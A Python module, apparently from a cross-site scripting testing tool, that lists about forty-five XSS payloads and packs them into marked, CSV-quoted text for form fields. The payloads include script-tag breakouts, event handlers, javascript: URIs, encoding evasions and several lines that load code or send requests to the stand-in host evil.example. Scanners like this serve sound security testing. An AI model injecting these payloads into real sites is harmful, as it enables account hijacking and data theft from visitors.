"""What is written into the fields: each would set window.__xss, call another host or tear the page apart."""

RUN = "__xss=1"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</option></select><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT\t>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"]]><script>{RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    "<img src=//evil.example/x.png>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<math><mi xlink:href="javascript:{RUN}">x</mi></math>',
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src=javascript:parent.{RUN}>",
    f'<object data="data:text/html,<script>{RUN}</script>">',
    f'<a href="javascript:{RUN}">x</a>',
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f'" onmouseover={RUN} autofocus onfocus={RUN} x="',
    f"' autofocus onfocus={RUN} x='",
    f"` onfocus={RUN} autofocus",
    f"\\';{RUN};//",
    "<style>*{background:url(//evil.example/c)}</style>",
    "</p><link rel=stylesheet href=//evil.example/c.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button>x",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;b&#62;",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\xc0\xbcscript\xc0\xbe{RUN}",
    f"\uff1cscript\uff1e{RUN}",
    "<!--",
    "{{7*7}}{% debug %}${7*7}<%=7*7%>",
    "\u202e\u0645\u0631\u062d\u0628\u0627<b>\u2066",
    f"<\u200bscript>{RUN}<\ufeff/script>",
]
BETWEEN, AT_ONCE = " ~ ", 4
SCHEMES = ("javascript:", "data:")


def mark(number: int) -> str:
    """By which the field of that number is found on a page, behind its payload."""
    return f"~k{number:02}~"


def text_for(number: int, turn: int, longest: int) -> str:
    """What the field of that number says in that turn; in `turns_for` turns, each payload that fits."""
    packed = _packed(longest - len(mark(number)))
    return BETWEEN.join(packed[(number + turn) % len(packed)]) + mark(number)


def cell(text: str) -> str:
    """As it stands in a table of comma-separated values."""
    return '"' + text.replace('"', '""') + '"'


def payloads_in(text: str) -> int:
    return text.count(BETWEEN) + 1


def turns_for(longest: int) -> int:
    """After how many turns a field of that length has said everything."""
    return len(_packed(longest - len(mark(0))))


def _packed(longest: int) -> list[list[str]]:
    """Several payloads to a text, where they fit; what only an address makes come alive stands first."""
    packed: list[list[str]] = []
    for payload in PAYLOADS:
        if len(payload) > longest:
            continue
        roomy = (it for it in packed if len(it) < AT_ONCE and len(BETWEEN.join([*it, payload])) <= longest)
        found = None if payload.startswith(SCHEMES) else next(roomy, None)
        if found is None:
            packed.append([payload])
        else:
            found.append(payload)
    return packed
